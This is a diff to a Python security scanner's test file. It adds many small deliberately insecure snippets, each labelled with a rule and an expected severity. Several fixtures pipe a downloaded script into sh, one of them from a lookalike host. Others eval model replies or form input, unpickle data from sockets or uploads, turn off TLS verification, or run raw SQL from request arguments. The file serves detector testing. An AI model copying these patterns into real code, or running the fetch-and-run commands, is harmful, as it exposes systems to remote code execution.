@@ -36,10 +36,47 @@ UPLOADS = (
     "for name, data in sent():\n    open('up/' + name, 'wb').write(data)\n"
 )
 TOKEN = "import random\n{}session_id = f'session_{{random.randint(0, 9)}}'\n"
-SQL = "from flask import request\nn = request.args['n']\napp.state.{}.execute('x ' + n)\n"
+INDEX = (
+    "from flask import request\nfrom langchain_community.vectorstores import FAISS\n"
+    "x = FAISS.load_local({}, e, allow_dangerous_deserialization=True)\n"
+)
+SOCKET = "import pickle, socket\ns = socket.socket()\n{}x = pickle.loads({}.recv(9))\n"
+TLS = "import requests\ndef get(host, port, base):\n    requests.get({}, verify=False)\n"
+UPLOADED = (
+    "import asyncio, os, tempfile\nfrom fastapi import FastAPI, UploadFile\napp = FastAPI()\n"
+    "@app.post('/u')\nasync def u(files: list[UploadFile]):\n"
+    "    async def save(file):\n        name = file.filename\n"
+    "        with tempfile.NamedTemporaryFile(suffix=os.path.splitext(name)[1]) as f:\n"
+    "            place = f.name\n        return place, name\n"
+    "    for place, name in await asyncio.gather(*(save(one) for one in files)):\n"
+    "        os.unlink(place)\n"
+)
+STATE = (
+    "import hmac, json, requests\nfrom flask import request\n"
+    "def read(state):\n    data = json.loads(state)\n    given = data.pop('signature')\n{}"
+    "    return data\n"
+    "requests.get(read(request.args['state'])['endpoint'])\n"
+)
+SIGNED = "    if not hmac.compare_digest(given, expected):\n        raise ValueError('state')\n"
+SQL = (
+    "from flask import request\nn = request.args['n']\n"
+    "app.state.{}.execute('select a from b where c = ' + n)\n"
+)
 LOG = "import logging, os\nlog = logging.getLogger('a')\n"
 
 CASES = {
+    "an installer, as its vendor has it": (
+        {"a.py": "import os\nos.system('wget -qO- https://astral.sh/uv/i.sh | sudo -E sh')\n"},
+        "piped-to-shell", "medium",
+    ),
+    "an installer of a host that begins alike": (
+        {"a.py": "import os\nos.system('curl -sSf https://astral.sh.shop.net/i.sh | sh')\n"},
+        "piped-to-shell", "high",
+    ),
+    "an installer without the certificate": (
+        {"a.py": "import os\nos.system('curl -sSfk https://astral.sh/uv/install.sh | sh')\n"},
+        "piped-to-shell", "high",
+    ),
     "weights over plain HTTP": (
         {"a.py": "URL = 'http://models.shop.net/a.bin'\n"}, "weights-over-http", "high",
     ),
@@ -49,6 +86,27 @@ CASES = {
     "digests beside it": (
         {"a.py": f"A = {{'url': 'http://models.shop.net/a.bin', 'md5': '{'0a' * 16}'}}\n"},
         "weights-over-http", "medium",
+    ),
+    "code of a repository": ({"a.py": MODEL}, "trust-remote-code", "high"),
+    "code at a full commit": (
+        {"a.py": MODEL.replace("True)", f"True, revision='{'0a' * 20}')")}, "trust-remote-code",
+        "medium",
+    ),
+    "code at a branch": (
+        {"a.py": MODEL.replace("True)", "True, revision='main')")}, "trust-remote-code", "medium",
+    ),
+    "code of whatever is named": ({"a.py": MODEL}, "trust-remote-code", "high"),
+    "code of a named repository": (
+        {"a.py": MODEL.replace("(n,", "('acme/model',")}, "trust-remote-code", "medium",
+    ),
+    "code of a named owner": (
+        {"a.py": MODEL.replace("(n,", "(f'acme/{n}',")}, "trust-remote-code", "medium",
+    ),
+    "code of a table": (
+        {"a.py": MODEL.replace("(n,", "(MODEL_NAMES[n],")}, "trust-remote-code", "medium",
+    ),
+    "code of a folder": (
+        {"a.py": MODEL.replace("(n,", "('./out/model',")}, "trust-remote-code", "medium",
     ),
     "no cookie is seen": ({"app.py": CORS}, "cors-everybody", "medium"),
     "a cookie in the same file": ({"app.py": CORS + COOKIE}, "cors-everybody", "high"),
@@ -76,7 +134,240 @@ CASES = {
     ),
     "remote code": ({"a.py": MODEL}, "trust-remote-code", "high"),
     "remote code in tests": ({"autotest/tools/a.py": MODEL}, "trust-remote-code", "low"),
-    "a file": ({"a.py": TORCH.format("b")}, "torch-load", "high"),
+    "a model": ({"a.py": TORCH.format("model_path")}, "torch-load", "high"),
+    "a model of a folder": (
+        {"a.py": "import os, torch\ndef get(folder):\n"
+         "    place = os.path.join(folder, 'model.pth')\n"
+         "    return torch.load(place, weights_only=False)\n"},
+        "torch-load", "high",
+    ),
+    "any file": ({"a.py": TORCH.format("b")}, "torch-load", "medium"),
+    "a state of one's own training": (
+        {"a.py": "import os, torch\ndef resume(folder):\n"
+         "    place = os.path.join(folder, 'checkpoint', 'optimizer.pt')\n"
+         "    return torch.load(place, weights_only=False)\n"},
+        "torch-load", "medium",
+    ),
+    "what the same file writes": (
+        {"a.py": f"{TORCH.format('model_path')}def put(m, model_path):\n"
+         "    torch.save(m, model_path)\n"},
+        "torch-load", "medium",
+    ),
+    "what one's own workers wrote": (
+        {"a.py": "import os, torch\ndef get(result):\n"
+         "    with result.checkpoint.as_directory() as folder:\n"
+         "        place = os.path.join(folder, 'model.pt')\n"
+         "        return torch.load(place, weights_only=False)\n"},
+        "torch-load", "medium",
+    ),
+    "a model of a hub": (
+        {"a.py": "import torch\nfrom huggingface_hub import hf_hub_download\n"
+         "place = hf_hub_download('a/b', 'data.pt', revision='1')\n"
+         "x = torch.load(place, weights_only=False)\n"},
+        "torch-load", "high",
+    ),
+    "YAML of one's own": (
+        {"a.py": "import yaml\nc = yaml.load(open('a.yaml'), Loader=yaml.Loader)\n"},
+        "yaml-load", "medium",
+    ),
+    "YAML of a stranger": (
+        {"a.py": "import yaml\nfrom flask import request\n"
+         "c = yaml.load(request.get_data(), Loader=yaml.Loader)\n"},
+        "yaml-load", "high",
+    ),
+    "an index of one's own": (
+        {"a.py": INDEX.format("config.index")}, "vector-store-pickle", "medium"
+    ),
+    "an index of a stranger": (
+        {"a.py": INDEX.format("request.args['index']")}, "vector-store-pickle", "high",
+    ),
+    "a store of one's own": (
+        {"a.py": "import pickle, redis\nx = pickle.loads(redis.Redis().get('job'))\n"},
+        "pickle-untrusted", "medium",
+    ),
+    "a peer that is chosen": (
+        {"a.py": PEER.replace("REP", "SUB").replace("bind", "connect").format("'tcp://a.net:5'")},
+        "pickle-untrusted", "medium",
+    ),
+    "a service that is asked": (
+        {"a.py": "import pickle, requests\nx = pickle.loads(requests.post(URL).content)\n"},
+        "pickle-untrusted", "medium",
+    ),
+    "a connection that is accepted": (
+        {"a.py": SOCKET.format("s.bind(('', 5))\nc, _ = s.accept()\n", "c")},
+        "pickle-untrusted", "critical",
+    ),
+    "a connection that is made": (
+        {"a.py": SOCKET.format("s.connect(('a.net', 5))\n", "s")}, "pickle-untrusted", "medium",
+    ),
+    "a socket that only sends": (
+        {"a.py": "import zmq\nclass A:\n    def __init__(self, first):\n"
+         "        c = zmq.Context()\n        if first:\n"
+         "            self.s = c.socket(zmq.PUB)\n            self.s.bind('tcp://*:5')\n"
+         "        else:\n            self.s = c.socket(zmq.SUB)\n"
+         "            self.s.connect(f'tcp://{HOST}:5')\n"
+         "    def get(self):\n        return self.s.recv_pyobj()\n"},
+        "recv-pyobj", "medium",
+    ),
+    "an address in a variable": (
+        {"a.py": RECEIVES.format("address = f'tcp://{host}:5'\ns.bind(address)\n")},
+        "recv-pyobj", "high",
+    ),
+    "the other of two sockets": (
+        {"a.py": RECEIVES.format("t = zmq.Context().socket(zmq.PULL)\nt.bind('tcp://*:5')\n"
+         "s.bind(f'{mode}127.0.0.1:{port}')\n")},
+        "recv-pyobj", "medium",
+    ),
+    "TLS to another machine": (
+        {"a.py": TLS.format("f'https://{host}/a'")}, "tls-verification-off", "high",
+    ),
+    "TLS to this machine": (
+        {"a.py": TLS.format("f'https://localhost:{port}/a'")}, "tls-verification-off", "medium",
+    ),
+    "no TLS at all": ({"a.py": TLS.format("f'http://{host}/a'")}, "tls-verification-off", "medium"),
+    "TLS to this machine, as documented": (
+        {"a.py": f'"""Talks to the service, e.g. https://localhost:27124."""\n{TLS.format("base")}'},
+        "tls-verification-off", "medium",
+    ),
+    "TLS to this machine in another function": (
+        {"a.py": "def a():\n    return 'https://localhost:1'\n" + TLS.format("'https://a.net/b'")},
+        "tls-verification-off", "high",
+    ),
+    "a probe of this machine": (
+        {"a.py": "import ssl, urllib.request\ndef wait(port, scheme):\n"
+         "    url = f'{scheme}://localhost:{port}/health'\n"
+         "    c = ssl.create_default_context()\n    c.check_hostname = False\n"
+         "    return urllib.request.urlopen(url, context=c)\n"},
+        "tls-context-unverified", "medium",
+    ),
+    "a temporary file among other values": (
+        {"a.py": UPLOADED}, "path-untrusted", "medium",
+    ),
+    "a state that is signed": ({"a.py": STATE.format(SIGNED)}, "url-untrusted", "medium"),
+    "a state that is not signed": ({"a.py": STATE.format("")}, "url-untrusted", "high"),
+    "an address that a model answers with": (
+        {"a.py": "import litellm, requests\n"
+         "a = litellm.completion(model='m', messages=[]).choices[0].message.content\n"
+         "x = requests.get(a)\n"},
+        "url-untrusted", "medium",
+    ),
+    "a statement put together elsewhere": (
+        {"a.py": "from flask import request\nimport store\n"
+         "db.execute(store.query(request.args['n']))\n"},
+        "sql-injection", "medium",
+    ),
+    "a whole statement": (
+        {"a.py": "from flask import request\ndb.execute(request.args['q'])\n"},
+        "sql-injection", "critical",
+    ),
+    "a form of one's own": (
+        {"a.py": "import gradio as gr\ndef f(name):\n    return open(name).read()\n"
+         "gr.Interface(f, 'text', 'text').launch()\n"},
+        "path-untrusted", "medium",
+    ),
+    "a form whose text is run": (
+        {"a.py": "import gradio as gr\ndef f(text):\n    return eval(text)\n"
+         "gr.Interface(f, 'text', 'text').launch()\n"},
+        "code-injection", "critical",
+    ),
+    "a model that is sent": (
+        {"a.py": "import torch\nfrom fastapi import FastAPI, UploadFile\napp = FastAPI()\n"
+         "@app.post('/')\ndef put(sent: UploadFile):\n"
+         "    return torch.load(sent.file, weights_only=False)\n"},
+        "pickle-untrusted", "critical",
+    ),
+    "an installer that its vendor names": (
+        {"a.py": "import os\nos.system('curl -LsSf https://astral.sh/uv/install.sh | sh')\n"},
+        "piped-to-shell", "medium",
+    ),
+    "an installer at an unknown address": (
+        {"a.py": "import os\nos.system('curl -LsSf https://a.net/install.sh | sh')\n"},
+        "piped-to-shell", "high",
+    ),
+    "an installer at any address": (
+        {"a.py": "import os\nos.system(f'curl -LsSf https://{host}/install.sh | sh')\n"},
+        "piped-to-shell", "high",
+    ),
+    "an installer over plain HTTP": (
+        {"a.py": "import os\nos.system('curl http://a.net/install.sh | sh')\n"},
+        "piped-to-shell", "high",
+    ),
+    "a key that makes no cookie": (
+        {"app.py": f"{CORS}secret_key = read()\n"}, "cors-everybody", "medium",
+    ),
+    "a cookie of another program": (
+        {"gateway/app.py": CORS, "portal/enter.py": COOKIE}, "cors-everybody", "medium",
+    ),
+    "a cookie of the same package": (
+        {"shop/__init__.py": "", "shop/api/__init__.py": "", "shop/api/app.py": CORS,
+         "shop/enter.py": COOKIE},
+        "cors-everybody", "high",
+    ),
+    "a copy of somebody's package": (
+        {"a/_vendor/b.py": TLS.format("f'https://{host}/a'")}, "tls-verification-off", "medium",
+    ),
+    "TLS through a socket of this machine": (
+        {"a.py": "import aiohttp, ssl\ndef context():\n    c = ssl.create_default_context()\n"
+         "    c.check_hostname = False\n    return c\n"
+         "def session(p):\n    return aiohttp.ClientSession(connector=aiohttp.UnixConnector(p))\n"},
+        "tls-context-unverified", "medium",
+    ),
+    "an option that a setting turns off": (
+        {"a.py": "import requests\ndef get(url, disable_ssl_verify=False):\n    options = {}\n"
+         "    if disable_ssl_verify:\n        options['verify'] = False\n"
+         "    return requests.get(url, **options)\n"},
+        "tls-verification-off", "medium",
+    ),
+    "an option that is turned off": (
+        {"a.py": "import requests\ndef get(url):\n    options = {}\n"
+         "    options['verify'] = False\n    return requests.get(url, **options)\n"},
+        "tls-verification-off", "high",
+    ),
+    "a token of a function's parts": (
+        {"a.py": "import flask, random\ndef parts():\n    return [1, random.random()]\n"
+         "proof_token = work(parts())\n"},
+        "predictable-token", "medium",
+    ),
+    "the beginning of a secret, if it is long": (
+        {"a.py": f"{LOG}key = os.environ['SHOP_API_KEY']\n"
+         "log.info('key %s', key[:4] if len(key) > 4 else key)\n"},
+        "secret-logged", "",
+    ),
+    "a shell of another kind": (
+        {"a.py": "from bashkit import Bash\nfrom langchain_core.tools import tool\n"
+         "@tool\nasync def run(command: str):\n    'Run.'\n"
+         "    return await Bash.from_snapshot(b'').execute(command)\n"},
+        "llm-sql", "",
+    ),
+    "a name of a route on one way, made safe on the other": (
+        {"a.py": "import os\nfrom fastapi import FastAPI\napp = FastAPI()\n"
+         "@app.get('/media/{name}')\ndef get(name, small: bool):\n    if small:\n"
+         "        result = os.path.join('small', name)\n    else:\n"
+         "        result = os.path.join('media', os.path.basename(name))\n"
+         "    return open(result)\n"},
+        "path-untrusted", "medium",
+    ),
+    "an answer by its name": (
+        {"a.py": "def handle(self, assistant_reply):\n    return eval(assistant_reply)\n"},
+        "llm-code-executed", "critical",
+    ),
+    "an answer that is tested": (
+        {"a.py": "import re\ndef handle(self, assistant_reply):\n"
+         "    if not re.fullmatch('[0-9+ ]+', assistant_reply):\n        return None\n"
+         "    return eval(assistant_reply)\n"},
+        "llm-code-executed", "",
+    ),
+    "a text by its name": (
+        {"a.py": "def handle(reply_format, value):\n    return eval(value)\n"},
+        "llm-code-executed", "",
+    ),
+    "tables of a model in a sandbox": (
+        {"a.py": "import pandasai\npandasai.chat(q, f, sandbox=box)\n"},
+        "agent-python-tool", "medium",
+    ),
+    "tables of a model": (
+        {"a.py": "import pandasai\npandasai.chat(q, f)\n"}, "agent-python-tool", "high",
+    ),
     "bytes of anywhere": ({"a.py": TORCH.format("io.BytesIO(b)")}, "torch-load", "medium"),
     "a debugger for everybody": (
         {"a.py": f"{FLASK}app.run(host='0.0.0.0', debug=True)\n"}, "debug-server", "high",
@@ -136,3 +427,9 @@ def test_what_a_rule_needs_to_see(tmp_path: Path, case: str) -> None:
         path.write_text(text, encoding="utf-8")
     told = [one for one in inspect(tmp_path)[0] if one.rule == rule]
     assert [one.severity for one in told] == ([severity] if severity else [])
+
+
+def test_what_only_its_name_tells_is_told_as_that(tmp_path: Path) -> None:
+    (tmp_path / "a.py").write_text("def f(assistant_reply):\n    return eval(assistant_reply)\n")
+    (one,) = inspect(tmp_path)[0]
+    assert one.message == "eval runs what is called the answer of a model as code."
